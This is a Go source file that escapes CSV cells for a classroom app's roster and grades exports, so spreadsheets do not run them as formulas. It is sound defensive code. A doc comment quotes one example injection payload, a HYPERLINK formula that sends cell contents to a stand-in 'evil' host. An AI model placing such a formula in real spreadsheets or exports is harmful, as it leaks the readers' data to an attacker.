// Package csvtext keeps the cells of the CSV files classroomd writes (a
// roster export, a grades export) from being run as formulas by the
// spreadsheet that opens them. It has no dependencies, so that every
// package writing a CSV may use it.
package csvtext

import "strings"

// SpreadsheetText keeps a cell people typed (a full name, an email) from
// being read as a formula when the CSV is opened in a spreadsheet (CSV
// injection: a name such as =HYPERLINK("http://evil/?"&A2,"x") would run in
// the reader's spreadsheet): a cell starting with =, +, -, @, a tab or a
// carriage return gets a leading apostrophe, which spreadsheets take as
// "this is text" and do not show (OWASP's advice). FromSpreadsheet undoes
// it, so that an exported roster imports again unchanged.
func SpreadsheetText(s string) string {
	if s != "" && strings.ContainsRune(formulaStarts, rune(s[0])) {
		return "'" + s
	}
	return s
}

// FromSpreadsheet takes off the apostrophe SpreadsheetText put before a
// formula's first character (so a name that itself began with "'=" would
// lose its apostrophe: none do).
func FromSpreadsheet(s string) string {
	if len(s) >= 2 && s[0] == '\'' && strings.ContainsRune(formulaStarts, rune(s[1])) {
		return s[1:]
	}
	return s
}

const formulaStarts = "=+-@\t\r"
